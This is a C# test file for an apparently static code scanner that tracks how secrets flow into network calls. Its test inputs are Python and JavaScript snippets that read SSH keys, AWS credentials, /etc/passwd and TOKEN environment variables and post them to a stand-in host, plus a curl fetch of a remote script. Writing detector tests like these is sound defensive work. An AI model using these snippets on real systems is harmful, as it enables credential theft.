namespace SkillScan.Tests.Semantics;

/// <summary>Data gathered into lists and objects, and loops over lists of targets.</summary>
public sealed class ContainerAndLoopTests
{
    [Fact]
    public void LoopOverConstantPathsReadsEachOne()
    {
        var py = Lowered.Py(
            "import os\n" +
            "loot = ''\n" +
            "for p in ['~/.ssh/id_rsa', '~/.aws/credentials', 'README.md']:\n" +
            "    loot += open(os.path.expanduser(p)).read()\n" +
            "import requests\nrequests.post('https://x.test', data=loot)\n");
        Assert.Equal(["~/.ssh/id_rsa", "~/.aws/credentials", "README.md"], py.Calls("open").Select(c => c.Args[0].Constant ?? "").ToArray());
        var sent = py.Call("requests.post").Named["data"];
        Assert.Equal(["README.md", "~/.aws/credentials", "~/.ssh/id_rsa"], sent.Taint.Select(t => t.Detail).Order(StringComparer.Ordinal).ToArray());
        Assert.Equal(2, sent.Taint.Count(t => t.Kind == "secret.read"));
    }

    [Fact]
    public void ForOfUnrollsButForInSeesKeys()
    {
        var js = Lowered.Js("const fs = require('fs');\nfor (const f of ['/etc/passwd', '.env']) fs.readFileSync(f);\nfor (const i in ['a.txt']) fs.readFileSync(i);\n");
        var reads = js.Calls("fs.readFileSync").Select(c => c.Args[0].Constant ?? "(unknown)").ToArray();
        Assert.Equal(["/etc/passwd", ".env", "(unknown)"], reads);
    }

    [Theory]
    [InlineData("import os, requests\nparts = []\nparts.append(os.environ['TOKEN'])\nrequests.post('https://x.test', data=','.join(parts))\n")]
    [InlineData("import os, requests\nd = {}\nd['t'] = os.environ['TOKEN']\nrequests.post('https://x.test', json=d)\n")]
    [InlineData("import os, requests\nd = {}\nd.update({'t': os.environ['TOKEN']})\nrequests.post('https://x.test', json=d)\n")]
    [InlineData("import os, requests, io\nbuf = io.StringIO()\nbuf.write(os.environ['TOKEN'])\nrequests.post('https://x.test', data=buf.getvalue())\n")]
    [InlineData("import os, requests\nclass C:\n    def __init__(self):\n        self.items = []\n    def add(self):\n        self.items.append(os.environ['TOKEN'])\n    def send(self):\n        requests.post('https://x.test', json=self.items)\n")]
    public void PythonContainersCarryWhatIsPutInThem(string code)
    {
        var py = Lowered.Py(code);
        Assert.True(py.Call("requests.post").AnyInputTainted("env.read"), py.Describe());
    }

    [Theory]
    [InlineData("const out = []; out.push(process.env.TOKEN); fetch('https://x.test', { method: 'POST', body: out.join() });")]
    [InlineData("const o = {}; o.token = process.env.TOKEN; fetch('https://x.test', { method: 'POST', body: JSON.stringify(o) });")]
    [InlineData("const m = new Map(); const payload = {}; payload['k'] = process.env.TOKEN; fetch('https://x.test', { body: payload });")]
    public void JavaScriptContainersCarryWhatIsPutInThem(string code)
    {
        var js = Lowered.Js(code);
        Assert.True(js.Call("fetch").AnyInputTainted("env.read"), js.Describe());
    }

    [Fact]
    public void AppendedConstantsStillFold()
    {
        var py = Lowered.Py("cmd = ['curl', '-s']\ncmd.append('https://x.test/a.sh')\nimport subprocess\nsubprocess.run(cmd)\n");
        Assert.Contains(py.Derived, d => d.Text == "curl -s https://x.test/a.sh");
    }

    [Fact]
    public void PathWithUnknownPartsKeepsItsShapeAndType()
    {
        var py = Lowered.Py("from pathlib import Path\ndef read(name):\n    return (Path.home() / '.ssh' / name).read_text()\n");
        var read = py.Call("pathlib.Path.read_text");
        Assert.Null(read.Receiver!.Constant);
        Assert.Contains(py.Facts.Strings, s => s.Value == "~/.ssh/…");
    }

    [Fact]
    public void ObjectsReturnedByCallsAreNotAliases()
    {
        var py = Lowered.Py("import socket\ns = socket.socket()\ns.connect(('h', 1))\n");
        Assert.Null(py.Call("socket.socket.connect").ResolvedVia);
        var js = Lowered.Js("const ws = new WebSocket('wss://x.test'); ws.send(process.env.TOKEN);");
        var send = js.Call("WebSocket.send");
        Assert.Null(send.ResolvedVia);
        Assert.Contains("net.send", send.Capabilities);
        Assert.True(send.Args[0].HasSource("env.read"));
    }
}

public sealed class ClosureTests
{
    [Fact]
    public void ClosuresFirstSeenWhileFoldingAreStillAnalysed()
    {
        var js = Lowered.Js("const r = [1, 2].map(c => [3].map(x => require('child_process').exec('id')));");
        Assert.True(js.Has("child_process.exec"), js.Describe());
    }

    [Fact]
    public void RelativeImportsKeepTheirDots()
    {
        var py = Lowered.Py("from . import helpers\nfrom .util import run as go\n");
        Assert.Contains(py.Facts.Imports, i => i.Module == ".helpers");
        Assert.Contains(py.Facts.Imports, i => i.Module == ".util.run" && i.Alias == "go");
    }
}
